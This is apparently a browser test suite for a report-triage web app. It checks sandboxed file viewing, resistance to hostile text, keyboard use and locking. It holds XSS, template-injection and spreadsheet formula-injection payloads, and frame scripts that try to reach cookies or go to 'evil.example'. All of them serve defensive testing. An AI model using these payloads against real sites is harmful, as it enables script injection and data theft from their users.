// Reading what strangers wrote and made: it shows harmlessly, its files are decoded apart from the key, everything goes
// by keyboard, and a lock leaves nothing of it behind.
import type { Frame, Locator, Page } from 'playwright-core'
import t, { type Test } from 'tap'
import { type PartKind, packJson } from '../../server/report/envelope.js'
import { startApps } from '../support/apps.js'
import { findings, OVERFLOWS } from '../support/axe.js'
import { until } from '../support/baken-process.js'
import { DESKTOP, launchBrowser, listen, NARROW, type Visit, visit } from '../support/browser.js'
import { PASSPHRASE } from '../support/desk.js'
import { sealTo } from '../support/desk-client.js'
import { dirtyPdf, dirtyPhoto } from '../support/dirty-files.js'
import { createReporter } from '../support/reporter.js'

const MINUTE = 60_000
const STOPS = 80
const RLO = '\u202e'
const ISOLATES = '\u2067\u2066\u2068'
/** What somebody may write, or seal who took the public app over. */
const HOSTILE = [
  '<img src=x onerror="window.hit=1"><script>window.hit=1</script><svg onload="window.hit=1">',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe><base href="https://evil.example/">',
  'javascript:window.hit=1 https://evil.example/ {{constructor.constructor("window.hit=1")()}} <%= window.hit=1 %>',
  '=HYPERLINK("https://evil.example/","click") @SUM(1+1) -2+3 +cmd|calc',
  `${RLO}txet desrever ${ISOLATES} never closed`,
  `z${'\u0351\u0362\u0489'.repeat(300)}algo`,
  `a${'\u200b\u200d\ufeff\u2060'.repeat(500)}b`,
  'x'.repeat(3_000),
].join('\n')
const LAST = 'this is the last line'

t.setTimeout(240_000)
const apps = await startApps(t)
const { owner } = apps.database
const origin = await listen(apps.triage)
const browser = await launchBrowser(t)
await sendReports()

/** The newest of the reports, in the order in which they were sent. */
async function sendReports(): Promise<void> {
  for (const words of ['a van at the mill', 'a light in the barn']) {
    const noor = createReporter(apps.intake)
    await noor.post('/en/report/words', { words })
    await noor.upload('/en/report/files', [{ bytes: await dirtyPhoto() }, { bytes: await dirtyPdf() }])
    await noor.post('/en/report/send', {})
  }
  await apps.release()
}

async function signIn(page: Page, name = 'sam'): Promise<void> {
  await page.goto(`${origin}/en/`)
  await page.getByLabel('Name').fill(name)
  await page.getByLabel('Your six words').fill(PASSPHRASE)
  await page.keyboard.press('Enter')
  await page.getByRole('button', { name: /next report/i }).waitFor()
}

async function open(options: Parameters<typeof visit>[2] = { viewport: DESKTOP }): Promise<Visit> {
  const visited = await visit(browser, origin, options)
  await signIn(visited.page)
  return visited
}

/** Takes a report, or opens it again; ends when its words are there. */
async function openReport(page: Page): Promise<void> {
  await page
    .getByRole('button', { name: /^(Open|Take)(?!.*next)/ })
    .first()
    .click()
  await page.locator('.section.situation .words').waitFor()
}

async function openPicture(page: Page): Promise<Frame> {
  await page.getByRole('button', { name: 'Open file 1' }).click()
  await page.getByRole('button', { name: 'Blur picture 1' }).waitFor()
  const frame = page.frames().find((one) => one !== page.mainFrame())
  if (!frame) throw new Error('there is no frame')
  return frame
}

const evaluates = (place: Page | Frame, script: string) =>
  place.evaluate<string>(
    `(async () => { try { return String(await (async () => { ${script} })()) } catch (error) { return error.name } })()`,
  )

t.test(
  'a file is decoded in a frame without an origin, in another process, with nothing to reach',
  async (t) => {
    const { page, context, complaints } = await open()
    await openReport(page)
    const frame = await openPicture(page)
    t.equal(await frame.evaluate('self.origin'), 'null')
    await t.resolves(context.newCDPSession(frame), 'Chromium gives it a process of its own')
    t.match(await frame.locator('img').getAttribute('alt'), /^Picture 1 of this report/)
    t.same(await frame.evaluate('[document.documentElement.lang, document.documentElement.dir]'), [
      'en',
      'ltr',
    ])
    t.match(await page.locator('figure iframe').getAttribute('title'), 'Frame with file 1')
    t.same(await findings(page), [])
    t.same(complaints, [])

    const refused: Record<string, string> = {
      'the page around it': 'return parent.document.title',
      'the memory of the page': 'return top.eval',
      cookies: 'return document.cookie',
      'storage of the browser': 'return localStorage.length',
      'the server, with the session': `return (await fetch('${origin}/session')).status`,
      'the server at all': `return (await fetch('/viewer', { mode: 'no-cors' })).type`,
      'another page': `return top.location.assign('https://evil.example/')`,
      'text as markup': `document.body.innerHTML = '<b>x</b>'`,
      'text as code': `return setTimeout('window.hit = 1')`,
    }
    for (const [what, script] of Object.entries(refused))
      t.match(await evaluates(frame, script), /^(Security|Type)Error$/, `it cannot reach ${what}`)
    t.equal(await evaluates(frame, `return String(window.open('/viewer'))`), 'null', 'nor open a window')

    // A frame that goes elsewhere would take along what it saw: it may not, and is ended.
    const elsewhere: string[] = []
    page.on('request', (request) => elsewhere.push(request.url()))
    await frame.evaluate(`void setTimeout(() => { location.href = 'https://evil.example/?seen' })`)
    await page.locator('figure iframe').waitFor({ state: 'detached' })
    t.same(
      elsewhere.filter((url) => !url.startsWith(origin)),
      [],
    )
    await context.close()
  },
)

t.test(
  'what a frame gone bad says is not believed, and a file of the code that differs is refused',
  async (t) => {
    const { page, context } = await open()
    await openReport(page)
    const bad = `<!doctype html><script>addEventListener('message', ({ ports: [port] }) => {
    const say = (message) => port.postMessage(message)
    for (const message of [
      'text', null, 7, { kind: 'lock' }, { kind: 'pages', pages: 1e9 }, { kind: 'pages', pages: '<b>x</b>' },
      { kind: 'size', width: 1e9, height: 1 }, { kind: 'size', width: 1, height: 0 }, { kind: 'size', width: -1, height: 5 },
      { kind: 'length', seconds: Infinity }, { kind: 'ready' },
    ]) say(message)
    port.onmessage = () => say({ kind: 'size', width: 30, height: 20 })
  })</script>`
    await context.route('**/viewer', (route) =>
      route.fulfill({
        contentType: 'text/html',
        headers: {
          'cross-origin-embedder-policy': 'require-corp',
          'cross-origin-resource-policy': 'same-origin',
        },
        body: bad,
      }),
    )
    await openPicture(page)
    t.match(await page.locator('figure iframe').boundingBox(), { width: 30, height: 20 }, 'within its bounds')
    t.equal(await page.locator('figcaption').count(), 0)
    t.equal(await page.getByRole('heading', { level: 1 }).innerText(), 'Report')

    await context.route('**/desk.js', async (route) => {
      const answer = await route.fetch()
      await route.fulfill({ response: answer, body: `${await answer.text()} ` })
    })
    const refused = page.waitForEvent('console', (line) => /integrity/.test(line.text()))
    await page.goto(`${origin}/nl/`)
    t.match((await refused).text(), /desk\.js/)
    t.equal(await page.locator('#desk').innerHTML(), '', 'not one letter of it ran')
    await context.close()
  },
)

t.test('text becomes no code at the desk, and no other worker is started', async (t) => {
  const { page, context } = await open()
  for (const script of [
    `document.body.innerHTML = '<b>x</b>'`,
    `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`,
    `document.createElement('script').text = 'window.hit = 1'`,
    `document.createElement('iframe').srcdoc = '<b>x</b>'`,
    `return setTimeout('window.hit = 1')`,
    `return new Worker('/desk.js')`,
    `return trustedTypes.createPolicy('other', { createHTML: (text) => text })`,
    `return trustedTypes.createPolicy('baken-worker', { createScriptURL: (text) => text })`,
  ])
    t.equal(await evaluates(page, script), 'TypeError', script)
  t.equal(await page.evaluate('window.hit'), undefined)
  await context.close()
})

t.test('headers are opened beside the page: it answers keys before any of them is open', async (t) => {
  const { page, context } = await visit(browser, origin, { viewport: DESKTOP })
  let letIn = (): void => undefined
  const held = new Promise<void>((resolve) => {
    letIn = resolve
  })
  await context.route('**/headers-worker.js', async (route) => {
    await held
    await route.continue()
  })
  await signIn(page)
  await page.getByText('Being opened').first().waitFor()
  await page.getByRole('button', { name: 'Keys', exact: true }).click()
  await page.getByLabel('Single keys work').check()
  await page.keyboard.press('Escape')
  await page.keyboard.press('j')
  t.match(await page.locator(':focus').innerText(), /^(Take|Open)/, 'a key is answered')
  t.same(
    await page.locator('.row h4').allInnerTexts(),
    ['Being opened', 'Being opened'],
    'while all are being opened',
  )
  letIn()
  await page.getByText('No form chosen').nth(1).waitFor()
  t.equal(page.workers().length, 1)
  await context.close()
})

t.test(
  'sections stand side by side where there is room, each in the language it was written in',
  async (t) => {
    const { page, context } = await open()
    await openReport(page)
    const place = async (kind: string) => {
      const box = await page.locator(`.section.${kind}`).boundingBox()
      return { top: Math.round(box?.y ?? 0), left: Math.round(box?.x ?? 0) }
    }
    let [first, second] = [await place('situation'), await place('place')]
    t.equal(first.top, second.top)
    t.ok(second.left > first.left)
    await page.evaluate(`document.documentElement.dir = 'rtl'`)
    ;[first, second] = [await place('situation'), await place('place')]
    t.ok(second.left < first.left, 'from right to left the other way round')
    t.same(
      await page
        .locator('.section.situation .words')
        .evaluateAll((all) => all.map((one) => `${Reflect.get(one, 'lang')} ${Reflect.get(one, 'dir')}`)),
      ['en auto'],
    )
    await page.setViewportSize(NARROW)
    ;[first, second] = [await place('situation'), await place('place')]
    t.ok(second.top > first.top)
    t.equal(second.left, first.left)
    await context.close()
  },
)

t.test('a lock, by hand or by time, leaves no frame, no thread and no word of the report', async (t) => {
  const { page, context } = await open()
  const isEmpty = async (t: Test) => {
    await page.getByRole('heading', { name: 'Locked' }).waitFor()
    await until('the thread has ended', () => page.workers().length === 0)
    t.equal(page.frames().length, 1)
    t.notMatch(await page.locator('body').innerHTML(), /at the mill|in the barn/)
  }
  const fill = async () => {
    await page.getByText('No form chosen').first().waitFor()
    await until('a thread opens headers', () => page.workers().length === 1)
    await openReport(page)
    await openPicture(page)
    t.equal(page.frames().length, 2)
  }
  await fill()
  await page.getByRole('button', { name: 'Keys', exact: true }).click()
  await page.evaluate(`document.querySelector('[data-key=lock]').click()`)
  await isEmpty(t)
  t.equal(await page.locator('dialog').count(), 0, 'nothing lies over the words')
  await page.getByLabel('Your six words').fill(PASSPHRASE)
  await page.keyboard.press('Enter')
  await page.getByRole('link', { name: /back/i }).click()
  await fill()
  await page.clock.install()
  await page.clock.setFixedTime(new Date(Date.now() + 16 * MINUTE))
  await page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
  await isEmpty(t)
  await context.close()
})

t.test('by keyboard alone: sign in, take, read, assess, hand back, lock', async (t) => {
  const { page, complaints } = await visit(browser, origin, { viewport: DESKTOP })
  const { keyboard } = page
  const reach = async (wanted: Locator): Promise<void> => {
    for (let stops = 0; stops < STOPS; stops++) {
      if ((await wanted.and(page.locator(':focus')).count()) > 0) return
      await keyboard.press('Tab')
    }
    throw new Error(`Tab never reaches ${wanted}`)
  }
  const focused = () => page.locator(':focus').innerText()
  const titles = async (key: string, times: number) => {
    const seen: string[] = []
    for (let i = 0; i < times; i++) {
      await keyboard.press(key)
      seen.push(await focused())
    }
    return seen
  }
  await owner.query(`update queue_item set state = 'waiting', member = null`)
  await page.goto(`${origin}/en/`)
  await page.getByLabel('Name').waitFor()
  await reach(page.getByLabel('Name'))
  await keyboard.type('ilse')
  await reach(page.getByLabel('Your six words'))
  await keyboard.type(PASSPHRASE)
  await keyboard.press('Enter')
  await page.getByText('No form chosen').first().waitFor()

  await keyboard.press('n')
  t.equal(await page.getByRole('button', { name: /next report/i }).count(), 1, 'keys are off at first')
  await reach(page.getByRole('button', { name: 'Keys', exact: true }))
  await keyboard.press('Enter')
  const list = page.getByRole('dialog')
  t.match(await list.innerText(), /On this page[\s\S]*Take the next report[\s\S]*Lock now/)
  t.notMatch((await list.locator('dl').first().innerText()) ?? '', 'Next part of the report')
  t.same(await findings(page), [])
  await reach(list.getByLabel('Single keys work'))
  await keyboard.press('Space')
  await keyboard.press('Escape')
  t.equal(await focused(), 'Keys', 'the focus comes back')

  await keyboard.press('n')
  await page.locator('.section.situation .words').waitFor()
  const sections = await page.locator('.report section > h2').allInnerTexts()
  t.same(await titles('j', sections.length), sections, 'every part, one after the other')
  t.same(await titles('k', 1), sections.slice(-2, -1))
  t.match(await focused(), /./)
  t.not(
    await page
      .locator(':focus')
      .evaluate((one) => Reflect.get(globalThis, 'getComputedStyle')(one).outlineStyle),
    'none',
    'and it is seen where one is',
  )
  await keyboard.press('?')
  t.match(await list.locator('dl').first().innerText(), /Next part of the report[\s\S]*Open, show or blur/)
  await keyboard.press('Escape')
  t.same(await titles('f', 2), ['Open file 1', 'Open file 2'])
  await keyboard.press('F')
  for (const [key, label] of [
    ['v', 'Blur picture 1'],
    ['v', 'Show picture 1'],
  ] as const) {
    await keyboard.press(key)
    await page.getByRole('button', { name: label }).waitFor()
    t.equal(await focused(), label)
  }
  await keyboard.press('f')
  await keyboard.press('v')
  await page.getByRole('button', { name: 'Blur picture 2' }).waitFor()
  await keyboard.press('F')
  await keyboard.press('v')
  await page.getByText('Page 1 of 2').waitFor()
  // One of both is the document.
  if (await page.locator('.file').nth(1).locator('figcaption').count()) await keyboard.press('f')
  await keyboard.press('.')
  await page.getByText('Page 2 of 2').waitFor()
  await keyboard.press(',')
  await page.getByText('Page 1 of 2').waitFor()

  await keyboard.press('a')
  await keyboard.press('Space')
  await reach(page.getByLabel('Concrete enough to work with'))
  await keyboard.press('Space')
  await reach(page.getByLabel('Note'))
  await keyboard.type('jkl?')
  t.equal(await page.getByLabel('Note').inputValue(), 'jkl?', 'in a text field they are letters')
  await reach(page.getByRole('button', { name: 'Save the assessment' }))
  await keyboard.press('Enter')
  await page.getByRole('button', { name: /next report/i }).waitFor()
  t.equal((await owner.query('select from assessment')).rowCount, 1)

  await keyboard.press('n')
  await page.locator('.section.situation .words').first().waitFor()
  await page.getByRole('button', { name: 'Give the report back' }).waitFor()
  await keyboard.press('h')
  t.equal(await focused(), 'Give the report back', 'this takes a second key')
  await keyboard.press('Enter')
  await page.getByRole('button', { name: /next report/i }).waitFor()
  t.equal((await owner.query(`select from queue_item where state = 'claimed'`)).rowCount, 0)
  await keyboard.press('l')
  await page.getByRole('heading', { name: 'Locked' }).waitFor()
  t.same(complaints, [])
})

t.test('what is hostile shows as text alone, in the list and in the report, and moves nothing', async (t) => {
  const report = await makeHostile()
  for (const look of [
    { viewport: DESKTOP },
    { viewport: NARROW, colorScheme: 'dark' },
    { viewport: DESKTOP, forcedColors: 'active' },
  ] as const) {
    const { page, context, complaints, elsewhere } = await visit(browser, origin, look)
    const asked: string[] = []
    page.on('request', (request) => asked.push(new URL(request.url()).pathname))
    page.on('dialog', (dialog) => complaints.push(`a dialog: ${dialog.message()}`))
    await signIn(page)
    const row = page.locator(`#row-${report}`)
    await row.getByText('onerror').first().waitFor()
    t.notMatch(await row.innerText(), /[\u202a-\u202e\u2066-\u2069]/, 'no sign turns a sentence of ours')
    t.notOk(await page.evaluate(OVERFLOWS), 'the list fits')
    await row.getByRole('button', { name: /^(Take|Open)/ }).click()
    const words = page.locator('.section.situation .words').last()
    await words.getByText(LAST).waitFor()
    t.equal(await words.innerText(), `${HOSTILE}\n${LAST}`, 'every sign of it, as text')
    t.equal(await words.evaluate((place) => Reflect.get(place, 'childElementCount')), 0)
    t.same(await page.locator('main :is(img, script, svg, base, object, embed)').count(), 0)
    t.same(
      await page.evaluate(READING_ORDER),
      await page.evaluate('[...document.querySelectorAll(".section h2")].map(() => true)'),
      'headings beside it still run from left to right',
    )
    t.notOk(await page.evaluate(OVERFLOWS), 'the report fits')
    t.same(await findings(page), [])
    t.equal(await page.evaluate('window.hit'), undefined, 'nothing ran')
    t.same(
      asked.filter(
        (path) =>
          !/^\/(en\/|[a-z-]+(\.(js|css))?|(reports|mailboxes|members|sign-in|inbox)\/[\w/-]+)$/.test(path),
      ),
      [],
      'nothing was asked for it',
    )
    t.same(elsewhere, [])
    t.same(complaints, [])
    await context.close()
  }
})

/** Whether each heading of a section begins left of where it ends. */
const READING_ORDER = `[...document.querySelectorAll('.section h2')].map((heading) => {
  const [text] = heading.childNodes
  const at = (offset) => {
    const range = document.createRange()
    range.setStart(text, offset)
    range.setEnd(text, offset + 1)
    return range.getBoundingClientRect().left
  }
  return at(0) < at(text.length - 1)
})`

/** A report whose every text is hostile, sealed as whoever took the public app over could. */
async function makeHostile(): Promise<string> {
  const { rows } = await owner.query<{ report: string }>(
    `update queue_item set state = 'waiting', member = null
     where report = (select report from queue_item where state <> 'assessed' limit 1) returning report`,
  )
  const report = rows[0]?.report ?? ''
  const { keys } = apps.desk
  const put = async (kind: PartKind, value: unknown) => {
    const sealed = await sealTo(
      [keys.recipient, keys.recoveryRecipient],
      packJson({ kind, of: report }, value),
    )
    await owner.query('update report_part set sealed = $3 where report = $1 and kind = $2', [
      report,
      kind,
      sealed,
    ])
  }
  const lines = HOSTILE.split('\n')
  await put('header', {
    language: `en${RLO}`,
    vantage: null,
    municipality: lines[0],
    forms: lines,
    signs: 0,
    danger: null,
    minor: false,
    when: null,
    mailbox: null,
    alike: null,
  })
  await put('situation', {
    forms: lines,
    signs: lines,
    words: `${HOSTILE}\n${LAST}`,
    when: null,
    whenWords: HOSTILE,
    danger: null,
  })
  await put('place', { municipality: lines[4], policeUnit: lines[5], description: HOSTILE, details: {} })
  await put('victims', { details: { [lines[0] ?? '']: lines } })
  return report
}
